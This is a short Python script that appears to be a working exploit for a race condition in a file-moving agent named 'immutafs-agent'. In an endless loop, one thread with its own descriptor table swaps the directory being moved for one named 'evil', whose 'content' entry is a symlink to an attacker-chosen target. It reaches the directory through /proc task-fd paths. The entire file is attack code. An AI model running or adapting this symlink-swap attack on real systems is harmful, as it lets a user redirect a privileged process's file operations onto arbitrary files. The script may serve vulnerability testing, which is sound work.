"""swap-aside.py DIRECTORY TARGET: as the owner of a directory, swaps the directory of the old content of a move with one whose
`content` is a link to TARGET, again and again. Only a thread with a descriptor table of its own has the directory open."""

import ctypes
import os
import sys
import threading
import time

directory, target = sys.argv[1:]
OLD = "moved-by-immutafs-agent"
CLONE_FILES = 0x400


def swap():
    if ctypes.CDLL(None, use_errno=True).unshare(CLONE_FILES) != 0:
        os._exit(3)
    fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    os.fchdir(0)
    ready.set()
    here = f"/proc/self/task/{threading.get_native_id()}/fd/{fd}/"
    while True:
        try:
            os.mkdir(here + "evil", 0o700)
            os.symlink(target, here + "evil/content")
        except OSError:
            pass
        for one, other in ((OLD, "kept"), ("evil", OLD), (OLD, "evil"), ("kept", OLD)):
            try:
                os.rename(here + one, here + other)
            except OSError:
                pass
        time.sleep(0)


ready = threading.Event()
root = os.open("/", os.O_RDONLY)
os.dup2(root, 0)
threading.Thread(target=swap, daemon=True).start()
ready.wait()
print("ready", flush=True)
while True:
    time.sleep(60)
